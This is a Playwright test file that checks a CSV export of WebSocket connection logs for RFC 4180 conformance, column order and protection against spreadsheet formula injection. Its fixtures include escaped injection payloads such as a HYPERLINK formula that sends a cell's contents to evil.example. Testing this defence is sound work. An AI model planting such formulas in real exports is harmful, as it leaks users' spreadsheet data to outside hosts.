import { expect, test } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import { formats } from '#model/export/formats/list.ts';
import { hardConnections, isClean, written } from '../../../support/export-sample.ts';

interface Cell {
  text: string;
  isQuoted: boolean;
}

/** The rows as an independent parser reads them; it must see no quote, line end or width that RFC 4180 does not allow. */
function read(text: string): Cell[][] {
  const rows: string[][] = parse(text, {
    record_delimiter: '\r\n',
    relax_column_count: false,
    cast: (cell, { quoting }) => JSON.stringify({ text: cell, isQuoted: quoting }),
  });
  return rows.map((row) => row.map((cell) => JSON.parse(cell)));
}

function contentOf({ text, isQuoted }: Cell): unknown {
  if (!isQuoted && text === '') return null;
  return text.startsWith("'") ? text.slice(1) : text;
}

const unescaped = (text: string): string =>
  text.replace(/\\u([\da-f]{4})/g, (_, code) => String.fromCharCode(Number.parseInt(code, 16)));

function valueAt(record: unknown, path: string): unknown {
  let value = record;
  for (const name of path.split('.')) value = Reflect.get(Object(value), name);
  return value ?? null;
}

test('a CSV parser reads back every field of the log', () => {
  const connections = hardConnections();
  const [head = [], ...rows] = read(written(formats.csv, connections));
  const names = head.map(({ text }) => text);
  expect(names.slice(0, 5)).toEqual(['ended', 'clean', 'meaning', 'id', 'url']);
  expect(rows).toHaveLength(connections.length);
  for (const [index, connection] of connections.entries()) {
    const row = rows[index] ?? [];
    for (const [column, name] of names.entries()) {
      if (column < 3) continue;
      const value = valueAt(connection, name);
      const cell = contentOf(row[column] ?? { text: 'missing', isQuoted: true });
      const headers = connection.handshake?.headers.map((header) => `${header.name}: ${header.value}`);
      if (value === null) expect(cell, name).toBe(null);
      else if (typeof value === 'string') expect(unescaped(String(cell)), name).toBe(value);
      else if (name === 'handshake.headers') expect(JSON.parse(String(cell)), name).toEqual(headers);
      else expect(JSON.parse(String(cell)), name).toEqual(value);
    }
    expect(row[0]?.text).toBe(new Date(connection.end.at).toISOString());
    expect(row[1]?.text).toBe(String(isClean(connection)));
  }
});

test('no text can be taken for a formula', () => {
  const cells = read(written(formats.csv, hardConnections())).flat();
  const dangerous = cells.filter(({ text }) => /^[=+\-@＝＋－＠\t\r\n]/.test(text));
  // A number is no formula, and would be a text with an apostrophe.
  expect(dangerous.map(({ text }) => text)).toEqual(['-1']);
  expect(cells.map(({ text }) => text)).toEqual(
    expect.arrayContaining([
      '\'=HYPERLINK("https://evil.example?"&A1)',
      "'+1",
      "'-2+3",
      "'@SUM(A1)",
      '\\u0009tab',
      "''quoted'",
    ]),
  );
});

test('lines end with CRLF and only there', () => {
  const text = written(formats.csv, hardConnections().slice(0, 12));
  expect(text.endsWith('\r\n')).toBe(true);
  expect(text.replaceAll(/"(?:[^"]|"")*"/g, '').replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
});

test('the columns stay where they are', () => {
  const [head = []] = read(written(formats.csv, []));
  expect(head.map(({ text }) => text).join(' ')).toBe(
    'ended clean meaning id url end.type end.at end.code end.reason end.wasClean end.name end.message end.readyState api ' +
      'browser protocols createdAt opened.at opened.protocol opened.extensions erroredAt closeCall.at closeCall.code ' +
      'closeCall.reason closeCall.readyState closeCall.threw activity.sent.count activity.sent.size ' +
      'activity.sent.largest activity.sent.lastAt activity.received.count activity.received.size ' +
      'activity.received.largest activity.received.lastAt activity.bufferedAmount page.hidden page.visibilityChangedAt ' +
      'page.hiddenFor page.online page.onlineChangedAt page.cachedAt page.frozenAt page.resumedAt ' +
      'page.longestGap.duration page.longestGap.until handshake.source handshake.status handshake.error ' +
      'handshake.address handshake.ambiguous handshake.headers violation.directive violation.policy syntheticClose.at ' +
      'syntheticClose.code syntheticClose.reason syntheticClose.wasClean beforeCapture sender.tabId sender.frameId ' +
      'sender.documentId sender.url sender.incognito stack closeCall.stack closeCall.by ' +
      'closeCall.during closeCall.eventType activity.sent.longestGap activity.received.longestGap ' +
      'goodbye.protocol goodbye.code goodbye.name goodbye.reason goodbye.from goodbye.weight goodbye.at goodbye.reconnect',
  );
});
